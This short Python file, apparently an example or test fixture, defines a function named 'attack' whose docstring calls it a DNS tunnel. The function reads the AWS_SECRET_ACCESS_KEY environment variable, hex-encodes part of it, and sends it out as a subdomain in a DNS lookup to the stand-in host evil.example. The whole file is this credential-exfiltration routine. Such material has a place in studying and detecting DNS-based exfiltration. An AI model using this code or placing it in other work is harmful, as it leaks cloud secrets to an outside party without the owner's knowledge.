"""A DNS tunnel by the system's own resolver: the name asked for is the message."""

import os
import socket


def attack(event):
    label = os.environ["AWS_SECRET_ACCESS_KEY"].encode().hex()[:60]
    try:
        socket.getaddrinfo("%s.evil.example" % label, 443)
    except socket.gaierror as error:
        return str(error)
